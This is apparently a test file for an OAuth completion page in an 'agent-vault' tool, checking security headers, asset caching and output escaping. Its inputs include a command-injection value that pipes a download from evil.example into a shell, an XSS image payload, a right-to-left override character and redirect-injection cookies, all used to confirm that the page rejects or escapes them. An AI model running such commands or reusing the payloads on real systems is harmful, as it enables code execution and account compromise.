/** What holds for every page: its headers, what it loads, and errors that people read. */
import { describe, expect, test } from "bun:test";
import { openInstance } from "../../support/instance.ts";

const POLICY =
  "default-src 'none'; style-src 'self'; img-src 'self' data:; form-action 'self'; base-uri 'none'; frame-ancestors 'none'";

test("a page may load our stylesheet and send forms to us, and nothing else", async () => {
  await using instance = await openInstance();
  const { status, headers, text } = await instance.call("GET /oauth/complete");
  expect(status).toBe(200);
  expect(headers.get("Content-Type")).toBe("text/html; charset=utf-8");
  expect(headers.get("Content-Security-Policy")).toBe(POLICY);
  expect(headers.get("X-Frame-Options")).toBe("DENY");
  expect(headers.get("X-Content-Type-Options")).toBe("nosniff");
  expect(headers.get("Cache-Control")).toBe("no-store");
  // With `no-referrer` browsers send forms with the origin `null`.
  expect(headers.get("Referrer-Policy")).toBe("same-origin");
  expect(text).toStartWith('<!doctype html><html lang="en">');
  expect(text).not.toMatch(/<script|<style|style=|\son\w+=|https?:/i);
});

test("what a page loads may be kept for ever, and is there for whoever asks", async () => {
  await using instance = await openInstance();
  const { text } = await instance.call("GET /oauth/complete");
  const paths = new Set([...text.matchAll(/(?:href|src)="([^"]+)"/g)].map(([, path]) => path));
  expect(paths.size).toBe(2);
  for (const path of paths) {
    const { status, headers } = await instance.call(`GET ${path}`);
    expect([path, status]).toEqual([path, 200]);
    expect(headers.get("Cache-Control")).toBe("public, max-age=31536000, immutable");
    expect(headers.get("Content-Type")).toMatch(/^(text\/css|image\/svg)/);
    expect(headers.get("Set-Cookie")).toBeNull();
    const packed = await instance.call(`GET ${path}`, { headers: { "Accept-Encoding": "gzip, br" } });
    expect(packed.headers.get("Content-Encoding")).toBe("gzip");
    expect([headers.get("Content-Encoding"), headers.get("Vary")]).toEqual([null, "Accept-Encoding"]);
  }
  const unknown = await instance.call("GET /assets/style-0.css");
  expect([unknown.status, unknown.headers.get("Cache-Control")]).toEqual([404, "no-store"]);
});

test("an error is a page, with the same words as in the API", async () => {
  await using instance = await openInstance({ loopbackOnly: true });
  const headers = { Host: "evil.example" };
  const answer = await instance.call("GET /oauth/complete", { headers });
  const { json } = await instance.call("GET /v1/status", { headers });
  expect(answer.status).toBe(403);
  expect(answer.headers.get("Content-Security-Policy")).toBe(POLICY);
  expect(answer.text).toContain(json.error);
  expect(answer.text).toContain(json.hint);
});

describe("the page after a provider was asked", () => {
  const shown = async (query: Record<string, string>) => {
    await using instance = await openInstance();
    return (await instance.call(`GET /oauth/complete?${new URLSearchParams(query)}`)).text;
  };

  test("says how to find out whether it is true", async () => {
    const text = await shown({ status: "success", vault: "payments", key: "GITHUB_TOKEN" });
    expect(text).toContain("agent-vault vault credential status GITHUB_TOKEN --vault payments");
    expect(text).toContain("GITHUB_TOKEN");
    expect(text).toContain("Anybody can write such an address");
  });

  test.each([
    ["a vault that is none", { vault: "payments; curl evil.example | sh", key: "GITHUB_TOKEN" }],
    ["a key that is none", { vault: "payments", key: "<b>GITHUB</b>" }],
    ["nothing", {}],
  ])("puts no command together from %s", async (_, names) => {
    const text = await shown({ status: "success", ...names });
    expect(text).not.toContain("--vault");
    expect(text).not.toMatch(/evil|<b>/);
    expect(text).toContain("This address names no credential");
  });

  test("quotes what the provider said as plain text, cut where it is long", async () => {
    const message = `<img src=x onerror=alert(1)> \u202etxet ${"long ".repeat(1000)}`;
    const text = await shown({ status: "error", message });
    expect(text).toContain("Not connected");
    expect(text).toContain("&lt;img src=x onerror=alert(1)&gt; ");
    expect(text).toContain("⟨U+202E⟩");
    expect(text).not.toContain("\u202e");
    expect(text.length).toBeLessThan(3000);
    expect(await shown({ status: "error" })).not.toContain("blockquote");
  });

  test("leads back to where this browser began, and never by the address", async () => {
    await using instance = await openInstance();
    const ways = async (path: string, cookie = "") =>
      [
        ...(
          await instance.call(`GET /oauth/complete?${path}`, { headers: { Cookie: cookie } })
        ).text.matchAll(/<a class="way" href="([^"]+)">([^<]+)/g),
      ].map(([, to, text]) => [to, text]);
    const cookie = `av_begun_7_00=${encodeURIComponent("7 payments")}`;
    const back = ["/approve/7?vault=payments", "Back to proposal 7 in payments"];
    for (const path of [
      "status=success&vault=research&key=K&proposal=9",
      "status=error&message=no&proposal=9",
    ]) {
      expect(await ways(path)).toEqual([]);
      expect(await ways(path, cookie)).toEqual([back]);
    }
    for (const text of ["7", "x payments", "7 //evil.example", "0 payments", '7 "><b>']) {
      expect(await ways("status=success", `av_begun_7_00=${encodeURIComponent(text)}`)).toEqual([]);
    }
  });

  test("says what to do where it is not known where that was", async () => {
    expect(await shown({ status: "error" })).toContain("agent-vault vault credential connect");
    expect(await shown({ status: "success" })).toContain("agent-vault vault credential status");
  });
});
